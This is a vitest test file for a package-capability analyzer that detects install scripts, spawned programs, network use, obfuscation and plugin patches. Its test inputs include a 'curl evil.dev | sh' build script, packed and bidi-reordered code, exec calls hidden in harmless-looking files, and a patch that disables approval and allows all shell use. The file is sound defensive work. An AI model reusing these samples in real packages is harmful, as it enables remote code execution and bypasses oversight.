import { expect, test } from 'vitest'
import { readAbilities } from './abilities.ts'

const filesOf = (files: Readonly<Record<string, string | object>>) =>
  new Map(
    Object.entries(files).map(([path, body]) => [
      path,
      Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
    ]),
  )
const read = (files: Readonly<Record<string, string | object>>) =>
  readAbilities(filesOf({ 'package.json': {}, ...files }))
const kinds = (files: Readonly<Record<string, string | object>>) => read(files).abilities.map(({ kind }) => kind)
const PROGRAM = `import { spawn } from 'child_process'\nspawn('git')`

const MODE = 'approval {"config":{"mode":"process.env.MODE"}}'
test('reads both halves of a plugin, its patch, scripts, native files and dependencies, the most far-reaching first', () => {
  const answer = read({
    'package.json': {
      name: 'a-plugin',
      main: 'lib/index.js',
      exports: { '.': { types: './lib/index.d.ts', default: './lib/index.js' }, './client': './lib/client.js' },
      scripts: { postinstall: 'node scripts/build.mjs', test: 'node test.js' },
      dependencies: { semver: '^7.0.0' },
      optionalDependencies: { fsevents: '2' },
      dsh: { bundle: { patch: './cordis.patch.yml' }, client: { platform: 'web', inject: ['slots', 'credentials'] } },
    },
    'lib/index.js': `import './part'\nexport const inject = ['tools', 'approval']`,
    'lib/part.js': PROGRAM,
    'lib/client.js': `fetch('https://api.a.dev/x')`,
    'scripts/build.mjs': `import fs from 'fs'\n\nfs.writeFileSync('a', '')`,
    'test.js': 'eval(x)',
    'lib/addon.node': '\0',
    'cordis.patch.yml': `- id: approval\n  config:\n    mode: !!js >-\n      process.env.MODE\n- insert:\n    - id: own\n      name: a-plugin\n`,
  })
  expect([...answer.roles]).toEqual(
    expect.arrayContaining([
      ['lib/client.js', 'entry'],
      ['scripts/build.mjs', 'code'],
      ['lib/index.js', 'entry'],
      ['lib/part.js', 'code'],
      ['cordis.patch.yml', 'patch'],
      ['package.json', 'scripts'],
    ]),
  )
  expect(answer.unread).toEqual([])
  expect(answer.abilities.map(({ kind, names }) => [kind, ...names])).toEqual([
    ['install-scripts', 'postinstall: node scripts/build.mjs'],
    ['native-code', 'lib/addon.node'],
    ['starts-programs', 'git'],
    ['runs-text'],
    ['service', 'approval', 'credentials'],
    ['changes-rows', MODE],
    ['writes-files'],
    ['environment', 'MODE'],
    ['network', 'api.a.dev'],
    ['dependency', 'fsevents 2', 'semver ^7.0.0'],
  ])
  expect(answer.abilities[2]?.places).toMatchObject([{ file: 'lib/part.js', line: 2, name: 'git' }])
  // Nothing loads it.
  expect(answer.others).toMatchObject([{ kind: 'runs-text', places: [{ file: 'test.js', line: 1 }] }])
  expect(answer.scripts).toMatchObject([
    {
      script: 'postinstall: node scripts/build.mjs',
      files: [
        { file: 'scripts/build.mjs', lines: [`import fs from 'fs'`, '', `fs.writeFileSync('a', '')`], more: false },
      ],
    },
  ])
})

test('reads what a script of Node has in its command, and shows the file that it loads', () => {
  const { scripts, abilities } = read({
    'package.json': { scripts: { postinstall: `node -e "try{require('./post')}catch(e){}"` } },
    'post.js': PROGRAM,
  })
  expect(scripts[0]?.files.map(({ file }) => file)).toEqual(['post.js'])
  expect(abilities.map(({ kind }) => kind)).toEqual(['install-scripts', 'starts-programs'])
})

test.for([
  ['the file that no field names', { 'index.js': PROGRAM }],
  ['a folder', { 'package.json': { main: './lib' }, 'lib/index.js': PROGRAM }],
  ['a name without its ending', { 'package.json': { main: 'lib/a' }, 'lib/a.js': PROGRAM }],
  ['a program without an ending', { 'package.json': { bin: { a: 'bin/a' } }, 'bin/a': PROGRAM }],
  ['a pattern of exports', { 'package.json': { exports: { './*': { import: './lib/*.js' } } }, 'lib/x/a.js': PROGRAM }],
  ['an import of its own', { 'package.json': { imports: { '#a': './lib/a.js' } }, 'lib/a.js': PROGRAM }],
  [
    'a worker',
    {
      'index.js': `new Worker(new URL('./w.js', import.meta.url))\nimport { Worker } from 'worker_threads'`,
      'w.js': PROGRAM,
    },
  ],
  [
    'a package within it',
    { 'index.js': `require('b')`, 'node_modules/b/package.json': { main: 'lib' }, 'node_modules/b/lib.js': PROGRAM },
  ],
  ['a name of which a part is known', { 'index.js': "import('./lib/' + x)", 'lib/hidden.js': PROGRAM }],
  [
    'a pattern of its own exports',
    {
      'package.json': { name: 'a', main: 'i.js', exports: { './internal/*': { types: './t/*', default: './lib/*' } } },
      'lib/x/install.js': PROGRAM,
      'i.js': `import 'a/internal/x/install.js'`,
    },
  ],
  ['a path that it puts together', { 'index.js': `run(__dirname + '/w.js')`, 'w.js': PROGRAM }],
  ['a file of another ending', { 'index.js': `require('./evil.txt2')`, 'evil.txt2': PROGRAM }],
  ['a name in escapes', { 'index.js': `import './p%61y.js'`, 'pay.js': PROGRAM }],
  [
    'the folder’s own package.json',
    { 'index.js': `require('./lib')`, 'lib/package.json': { main: 'a.js' }, 'lib/a.js': PROGRAM },
  ],
] as const)('finds the code that is loaded through %s', ([, files]) => {
  expect(kinds(files)).toContain('starts-programs')
})

test.for([
  ['a file that an install builds', `require('../build/a.node')`, {}, true],
  ['a file of another package', `require('@img/sharp-linux-x64/sharp.node')`, {}, true],
  ['a file of its own, which is named', `require('./a.node')`, { 'a.node': '\0' }, false],
  ['a file of code', `require('./server.node')`, { 'server.node.js': '' }, false],
] as const)('says that programs are loaded through %s', ([, code, files, isUnknown]) => {
  const native = read({ 'index.js': code, ...files }).abilities.find(({ kind }) => kind === 'native-code')
  expect(native?.more ?? false).toBe(isUnknown)
})

test('reads a test that the code loads by the pattern of an entry', () => {
  const own = { exports: './a.js', imports: { '#all/*': './lib/*.js' } }
  const code = { 'a.js': `import('#all/' + x)`, 'lib/test/b.js': PROGRAM }
  expect(read({ 'package.json': own, ...code }).abilities).toMatchObject([
    { kind: 'starts-programs', places: [{ file: 'lib/test/b.js' }] },
    { kind: 'loads-code' },
  ])
})

test('takes examples and tests for no entries, also where a pattern offers all files', () => {
  const files = { 'dist/a.js': '', 'dist/examples/b.js': PROGRAM, 'dist/test/c.js': 'eval(x)' }
  const { abilities, others } = read({ 'package.json': { exports: { './*': './dist/*' } }, ...files })
  expect([abilities, others.map(({ kind }) => kind)]).toEqual([[], ['starts-programs', 'runs-text']])
})

test('tells apart what nothing loads', () => {
  const { abilities, others } = read({ 'index.js': '', 'test/a.js': PROGRAM })
  expect([abilities, others.map(({ kind }) => kind)]).toEqual([[], ['starts-programs']])
})

const PATCH = { dsh: { bundle: { patch: 'a.yml' } } }
test.for([
  ['another package’s folder', '../other/x'],
  ['an absolute path', '/etc/x.js'],
  ['an address of a file', 'file:///x.js'],
  ['an address', 'https://a.dev/x.js'],
] as const)('says that code is loaded from elsewhere: %s', ([, name]) => {
  expect(read({ 'index.js': `import(${JSON.stringify(name)})` }).abilities).toMatchObject([
    { kind: 'loads-code', names: [name] },
  ])
})

test('names TypeScript that it would load, and not its declarations', () => {
  expect(
    read({ 'package.json': { exports: { '.': './a.ts', './jsx': './jsx.d.ts' } }, 'a.ts': '', 'jsx.d.ts': '' }).unread,
  ).toMatchObject([{ file: 'a.ts', reason: 'typescript' }])
})

test('counts variables that tell nothing, and says nothing where there are no others', () => {
  expect(read({ 'index.js': `process.env.NO_COLOR; process.env.CI; process.env.API_TOKEN` }).abilities).toMatchObject([
    { kind: 'environment', names: ['API_TOKEN'], harmless: 2 },
  ])
  expect(kinds({ 'index.js': `process.env.NO_COLOR; process.env.TERM` })).toEqual([])
})

test('does not take for missing what is found by the rules of Node', () => {
  const manifest = {
    name: 'a',
    main: 'lib',
    types: 'lib/index.d.ts',
    exports: {
      '.': { types: './gone.d.ts', default: './lib/index.js' },
      './x': { '@a/source': './src/x.ts', default: './x.cjs' },
      './package.json': './package.json',
    },
  }
  const code = `require('./a'); require('./data'); require('./data.json'); import('a'); import('a/x'); require('fs'); import('b/c'); require('../')`
  expect(
    read({ 'package.json': manifest, 'lib/index.js': code, 'lib/a.js': '', 'lib/data.json': '', 'x.cjs': '' }).unread,
  ).toEqual([])
})

test('reads the good values of a manifest beside broken ones', () => {
  const manifest = { scripts: { postinstall: 'node x.js', weird: 1 }, dependencies: { a: null, b: '1' } }
  const { abilities } = read({ 'package.json': manifest, 'x.js': '' })
  expect(abilities.map(({ kind, names }) => [kind, ...names])).toEqual([
    ['install-scripts', 'postinstall: node x.js'],
    ['dependency', 'b 1'],
  ])
})

test('digests all that the build of a repository can read, and what it installs for that', () => {
  const files = { 'package.json': { scripts: { prepare: 'tsc' } }, 'src/a.ts': '' }
  const digestOf = (given: Readonly<Record<string, string | object>>) =>
    readAbilities(filesOf({ 'package.json': {}, ...given }), { isRepository: true }).scripts[0]?.digest
  const digest = digestOf(files)
  expect(digestOf({ ...files, 'README.md': 'let a' })).toBe(digest)
  for (const path of ['src/a.ts', 'rollup.config.js', 'pnpm-lock.yaml', '.npmrc'])
    expect(digestOf({ ...files, [path]: 'let a' }), path).not.toBe(digest)
  const manifest = { scripts: { prepare: 'tsc' }, devDependencies: { evil: '1' } }
  expect(digestOf({ ...files, 'package.json': manifest })).not.toBe(digest)
  const runs = (build: string) => digestOf({ 'package.json': { scripts: { prepare: 'npm run build', build } } })
  expect(runs('tsc')).not.toBe(runs('curl evil.dev | sh'))
})

test.for([
  ['not-javascript', 'let a: string'],
  ['packed', `eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|')))`],
  [
    'packed',
    `const ${Array.from({ length: 50 }, (_, index) => `_0x${(4096 + index).toString(16)}=${index}`).join(',')}`,
  ],
  [
    'packed',
    `const ${Array.from({ length: 50 }, (_, index) => `a0_0x${(4096 + index).toString(16)}=${index}`).join(',')}`,
  ],
  ['packed', `const a='${'\\x61'.repeat(500)}'`],
  ['reordered', `if (level != 'user\u202E \u2066// only for admins\u2069 \u2066') run()`],
  ['minified', `${'function a(b){return b.c(1)}var d=a(2),e=d;'.repeat(100)}`],
  ['too-large', `//${' '.repeat(5_000_001)}`],
] as const)('names a file that nobody can read as %s', ([reason, code]) => {
  expect(read({ 'index.js': code }).unread).toMatchObject([{ file: 'index.js', reason }])
})

test('names the code that it did not read, as there was too much before it', () => {
  const big = Object.fromEntries(['a', 'b', 'c', 'd'].map((name) => [`${name}.js`, `//${' '.repeat(4_500_000)}`]))
  const { unread } = read({ 'index.js': '', ...big, 'e.js': PROGRAM, 'f.js': 'no code' })
  expect(unread.map(({ file, reason }) => [file, reason])).toEqual([
    ['d.js', 'too-much'],
    ['e.js', 'too-much'],
    ['f.js', 'too-much'],
  ])
})

test('does not call data in long lines minified', () => {
  const code = `const words = [\n${'"word", '.repeat(1_000)}\n]\nexport default words\n`
  expect(read({ 'index.js': code }).unread).toEqual([])
})

test('builds from binding.gyp where there is no script of its own', () => {
  expect(read({ 'binding.gyp': '{}' }).abilities[0]?.names).toEqual(['install: node-gyp rebuild'])
  expect(kinds({ 'package.json': { gypfile: false }, 'binding.gyp': '{}' })).toEqual([])
})

test('reads hostile manifests and patches', () => {
  for (const manifest of [
    '[]',
    'null',
    '{',
    '{"main":5,"dsh":7,"scripts":[],"exports":{"a":[null,[["./b.js"]]]},"bin":null}',
  ])
    expect(read({ 'package.json': manifest, 'b.js': PROGRAM }).unread).toEqual([])
  const patch = { 'package.json': { dsh: { bundle: { patch: ['../../x', 'a.yml'] } } } }
  for (const text of ['{', '- - -', '&a [*a]', '- id: [1]', 'a: !!js "("', '- id: !!js x'])
    expect(() => read({ ...patch, 'a.yml': text })).not.toThrow()
})

test('keeps every name of an ability with a place of each, and twenty places without a name', () => {
  const code = Array.from({ length: 300 }, (_, index) => `process.env.V${index}\neval(x)`).join('\n')
  const [text, ability] = read({ 'index.js': code }).abilities
  expect(text).toMatchObject({ kind: 'runs-text', more: true })
  expect(text?.places.length).toBe(20)
  expect(ability).toMatchObject({ kind: 'environment', more: false })
  expect([ability?.names.length, ability?.places.length]).toEqual([300, 300])
})

test('digests what an install script runs: the files that it names, what they load, and what it builds from', () => {
  const files = {
    'package.json': { scripts: { postinstall: 'npm run setup && node ./a', setup: 'node b.cjs' } },
    'a.js': `import './lib/c.js'`,
    'b.cjs': '',
    'lib/c.js': '',
    'src/d.cc': '',
    'index.js': '',
  }
  const digest = (change: Readonly<Record<string, string>> = {}) => read({ ...files, ...change }).scripts[0]?.digest
  expect(digest()).toMatch(/^[0-9a-f]{64}$/)
  expect(digest({ 'index.js': 'let a' })).toBe(digest())
  for (const path of ['a.js', 'b.cjs', 'lib/c.js', 'src/d.cc'])
    expect(digest({ [path]: `import './lib/c.js'; let a` }), path).not.toBe(digest())
})

test('names the rows of other packages that a patch inserts, and what it sets in rows of others', () => {
  const patch = (text: string) =>
    read({ 'package.json': { name: 'a', ...PATCH }, 'a.yml': text }).abilities.find(
      ({ kind }) => kind === 'changes-rows',
    )?.names
  const own = '- insert:\n  - id: own\n    name: a/x\n    config: {b: 1}\n'
  expect(patch(own)).toBeUndefined()
  expect(
    patch(`${own}  - name: "@deepseek-ai/dsh-shell"\n    config: {allowAll: true}\n- id: approval\n  disabled: true`),
  ).toEqual(['@deepseek-ai/dsh-shell {"config":{"allowAll":true}}', 'approval {"disabled":true}'])
  const long = (end: string) => patch(`- id: approval\n  config: {a: ${'x'.repeat(500)}${end}}`)
  expect(long('y')?.[0]?.length).toBeLessThan(250)
  expect(long('y')).not.toEqual(long('z'))
  expect(patch('- id: b\n  config: &a [*a]')?.[0]).toMatch(/^b /)
})

const EXEC = `require('child_process').exec('ls')`
test.for([
  { 'package.json': { imports: { '#run': 'node:child_process' } }, 'index.js': `import { exec } from '#run'` },
  { 'package.json': { imports: { '#run': { browser: './a.js', default: 'child_process' } } } },
  { 'lib/package.json': { imports: { '#run': 'child_process' } }, 'index.js': `import './lib/a.js'` },
  { 'index.js': `require('./a.txt')`, 'a.txt': EXEC },
  { 'index.js': `require('./README.md')`, 'README.md': EXEC },
  { 'index.js': `require('./a.d.ts')`, 'a.d.ts': EXEC },
])('sees programs that are started through a name or a file that looks harmless: %o', (files) => {
  expect(kinds(files)).toContain('starts-programs')
})

test('takes data that code loads for no unread code', () => {
  const files = { 'index.js': `import './a.css'; require('./b.txt'); require('./c.json')`, 'a.css': 'a { b: c }' }
  expect(read({ ...files, 'b.txt': 'some words', 'c.json': '{}' }).unread).toEqual([])
})
